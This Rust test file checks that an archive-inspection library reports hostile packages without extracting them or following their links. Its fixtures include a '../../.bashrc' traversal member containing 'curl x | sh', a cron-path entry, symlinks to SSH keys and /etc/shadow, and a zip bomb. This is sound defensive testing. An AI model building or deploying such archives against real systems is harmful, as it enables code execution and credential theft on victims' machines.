//! Safe reading of hostile archives: every case is reported, none crashes,
//! nothing is written outside memory.

#![allow(clippy::unwrap_used, clippy::disallowed_methods, reason = "tests")]

use std::io::Write;
use std::path::{Path, PathBuf};

use custody_inspect::archive::{Anomaly, ArchiveError, Format, Limits, read};

fn tar_gz(dir: &Path, name: &str, entries: &[(&str, &[u8])], links: &[(&str, &str)]) -> PathBuf {
    let path = dir.join(name);
    let gz = flate2::write::GzEncoder::new(
        std::fs::File::create(&path).unwrap(),
        flate2::Compression::default(),
    );
    let mut b = tar::Builder::new(gz);
    for (p, data) in entries {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_entry_type(tar::EntryType::Regular);
        // set_path refuses `..`; write the raw name the way a hostile tool would.
        let bytes = p.as_bytes();
        h.as_old_mut().name[..bytes.len()].copy_from_slice(bytes);
        h.set_cksum();
        b.append(&h, *data).unwrap();
    }
    for (p, target) in links {
        let mut h = tar::Header::new_gnu();
        h.set_entry_type(tar::EntryType::Symlink);
        h.set_size(0);
        b.append_link(&mut h, p, target).unwrap();
    }
    b.into_inner().unwrap().finish().unwrap();
    path
}

fn zip_file(dir: &Path, name: &str, entries: &[(&str, Vec<u8>)]) -> PathBuf {
    let path = dir.join(name);
    let mut z = zip::ZipWriter::new(std::fs::File::create(&path).unwrap());
    for (p, data) in entries {
        z.start_file(*p, zip::write::SimpleFileOptions::default())
            .unwrap();
        z.write_all(data).unwrap();
    }
    z.finish().unwrap();
    path
}

#[test]
fn a_plain_wheel_is_read_whole() {
    let dir = tempfile::tempdir().unwrap();
    let p = zip_file(
        dir.path(),
        "pkg-1.0-py3-none-any.whl",
        &[
            ("pkg/__init__.py", b"x = 1\n".to_vec()),
            ("pkg-1.0.dist-info/METADATA", b"Name: pkg\n".to_vec()),
        ],
    );
    let c = read(&p, &Limits::default()).unwrap();
    assert_eq!(c.format, Format::Wheel);
    assert_eq!(c.members.len(), 2);
    assert_eq!(c.members[0].data, b"x = 1\n");
    assert!(c.anomalies.is_empty(), "{:?}", c.anomalies);
}

#[test]
fn traversal_absolute_paths_and_links_are_reported_not_followed() {
    let dir = tempfile::tempdir().unwrap();
    let p = tar_gz(
        dir.path(),
        "evil-1.0.tar.gz",
        &[
            ("evil-1.0/setup.py", b"print()\n"),
            ("../../.bashrc", b"curl x | sh\n"),
            ("/etc/cron.d/x", b"* * * * *\n"),
        ],
        &[("evil-1.0/link", "/home/user/.ssh/id_rsa")],
    );
    let c = read(&p, &Limits::default()).unwrap();
    assert_eq!(c.format, Format::TarGz);
    assert!(
        c.anomalies.contains(&Anomaly::UnsafePath {
            path: "../../.bashrc".into()
        }),
        "{:?}",
        c.anomalies
    );
    assert!(c.anomalies.contains(&Anomaly::UnsafePath {
        path: "/etc/cron.d/x".into()
    }));
    assert!(c.anomalies.contains(&Anomaly::Link {
        path: "evil-1.0/link".into(),
        target: "/home/user/.ssh/id_rsa".into()
    }));
    // The traversal member's content is still available for analysis, in memory only.
    assert!(
        c.members
            .iter()
            .any(|m| m.path == "../../.bashrc" && m.data == b"curl x | sh\n")
    );
    assert!(!dir.path().parent().unwrap().join(".bashrc").exists());
}

#[test]
fn compression_bomb_is_not_inflated() {
    let dir = tempfile::tempdir().unwrap();
    let p = zip_file(
        dir.path(),
        "bomb-1.0.zip",
        &[("bomb-1.0/zeros.py", vec![0u8; 64 << 20])],
    );
    assert!(
        std::fs::metadata(&p).unwrap().len() < 1 << 20,
        "the bomb is small on disk"
    );
    let c = read(&p, &Limits::default()).unwrap();
    assert!(
        matches!(&c.anomalies[..], [Anomaly::CompressionBomb { size, ratio, .. }] if *size == 64 << 20 && *ratio > 200),
        "{:?}",
        c.anomalies
    );
    assert!(c.members.is_empty());
}

/// Four members (`a.py` 16 bytes, then three of 1) read with room for 3
/// members of 10 bytes: cut, counted, and both reported.
fn assert_bounded(p: &Path) {
    let limits = Limits {
        max_members: 3,
        max_member_bytes: 10,
        ..Limits::default()
    };
    let c = read(p, &limits).unwrap();
    assert_eq!(c.members.len(), 3);
    assert_eq!(c.members[0].data, b"0123456789");
    assert!(c.members[0].truncated);
    assert!(c.anomalies.contains(&Anomaly::Oversized {
        path: "a.py".into(),
        size: 16
    }));
    assert!(c.anomalies.contains(&Anomaly::TooManyMembers { limit: 3 }));
}

#[test]
fn sizes_and_counts_are_bounded() {
    let dir = tempfile::tempdir().unwrap();
    let p = tar_gz(
        dir.path(),
        "big-1.0.tar.gz",
        &[
            ("a.py", b"0123456789abcdef"),
            ("b.py", b"x"),
            ("c.py", b"y"),
            ("d.py", b"z"),
        ],
        &[],
    );
    assert_bounded(&p);
}

#[test]
fn zip_sizes_and_counts_are_bounded_as_in_a_tar() {
    let dir = tempfile::tempdir().unwrap();
    let p = zip_file(
        dir.path(),
        "big-1.0.zip",
        &[
            ("a.py", b"0123456789abcdef".to_vec()),
            ("b.py", b"x".to_vec()),
            ("c.py", b"y".to_vec()),
            ("d.py", b"z".to_vec()),
        ],
    );
    assert_bounded(&p);
    // Within the limits every member is read whole, in the archive's order.
    let c = read(&p, &Limits::default()).unwrap();
    let names: Vec<_> = c.members.iter().map(|m| m.path.as_str()).collect();
    assert_eq!(names, ["a.py", "b.py", "c.py", "d.py"]);
    assert_eq!(c.members[0].data, b"0123456789abcdef");
    assert!(c.anomalies.is_empty(), "{:?}", c.anomalies);
}

#[test]
fn skimmed_members_keep_only_their_head() {
    let dir = tempfile::tempdir().unwrap();
    let lib = [b"\x7fELF".as_slice(), &[0u8; 10_000]].concat();
    let p = zip_file(
        dir.path(),
        "pkg-1.0-py3-none-any.whl",
        &[("pkg/_c.so", lib), ("pkg/a.py", b"x = 1\n".to_vec())],
    );
    let limits = Limits {
        skim: Some(|p: &str| p.ends_with(".so")),
        ..Limits::default()
    };
    let c = read(&p, &limits).unwrap();
    assert_eq!(c.members[0].data.len(), 4096);
    assert!(c.members[0].data.starts_with(b"\x7fELF"));
    assert_eq!(c.members[0].size, 10_004);
    assert!(c.members[0].truncated);
    assert_eq!(c.members[1].data, b"x = 1\n");
    assert!(!c.members[1].truncated);
    // Skimming is a choice, not an anomaly of the package.
    assert!(c.anomalies.is_empty(), "{:?}", c.anomalies);
}

#[test]
fn truncated_archive_yields_what_was_read() {
    let dir = tempfile::tempdir().unwrap();
    let big: Vec<u8> = (0..200_000u32).flat_map(u32::to_le_bytes).collect();
    let p = tar_gz(
        dir.path(),
        "t-1.0.tar.gz",
        &[("t-1.0/a.py", b"a = 1\n"), ("t-1.0/blob.bin", &big)],
        &[],
    );
    let bytes = std::fs::read(&p).unwrap();
    let cut = dir.path().join("cut-1.0.tar.gz");
    std::fs::write(&cut, &bytes[..bytes.len() / 2]).unwrap();
    let c = read(&cut, &Limits::default()).unwrap();
    assert_eq!(c.members[0].path, "t-1.0/a.py");
    assert!(
        c.anomalies
            .iter()
            .any(|a| matches!(a, Anomaly::Truncated { .. })),
        "{:?}",
        c.anomalies
    );
}

#[test]
fn garbage_is_a_clear_error_per_format() {
    let dir = tempfile::tempdir().unwrap();
    for name in [
        "x-1.0-py3-none-any.whl",
        "x-1.0.zip",
        "x-1.0.tar.gz",
        "x-1.0.tar.bz2",
    ] {
        let p = dir.path().join(name);
        std::fs::write(&p, b"this is not an archive at all").unwrap();
        let err = read(&p, &Limits::default()).unwrap_err();
        assert!(matches!(err, ArchiveError::Corrupt { .. }), "{name}: {err}");
        assert!(err.to_string().contains(name), "{err}");
    }
    let p = dir.path().join("notes.txt");
    std::fs::write(&p, b"hi").unwrap();
    assert!(matches!(
        read(&p, &Limits::default()),
        Err(ArchiveError::UnknownFormat { .. })
    ));
    assert!(matches!(
        read(&dir.path().join("missing.whl"), &Limits::default()),
        Err(ArchiveError::Io { .. })
    ));
}

#[cfg(unix)]
#[test]
fn folders_report_links_without_following() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("pkg")).unwrap();
    std::fs::write(dir.path().join("pkg/__init__.py"), b"").unwrap();
    std::os::unix::fs::symlink("/etc/shadow", dir.path().join("pkg/shadow")).unwrap();
    std::os::unix::fs::symlink(dir.path(), dir.path().join("pkg/loop")).unwrap();
    let c = read(dir.path(), &Limits::default()).unwrap();
    assert_eq!(c.format, Format::Folder);
    assert_eq!(c.members.len(), 1);
    let links: Vec<_> = c
        .anomalies
        .iter()
        .filter(|a| matches!(a, Anomaly::Link { .. }))
        .collect();
    assert_eq!(links.len(), 2, "{:?}", c.anomalies);
}

#[test]
fn the_content_decides_the_format_and_a_wrong_name_is_reported() {
    let dir = tempfile::tempdir().unwrap();
    let z = zip_file(
        dir.path(),
        "real.zip",
        &[("x-1.0/setup.py", b"pass\n".to_vec())],
    );
    let misnamed = dir.path().join("x-1.0.tar.gz");
    std::fs::copy(&z, &misnamed).unwrap();
    let c = read(&misnamed, &Limits::default()).unwrap();
    assert_eq!(c.format, Format::Zip);
    assert_eq!(c.members.len(), 1);
    assert_eq!(
        c.anomalies,
        vec![Anomaly::Misnamed {
            announced: Format::TarGz,
            actual: Format::Zip
        }]
    );
}
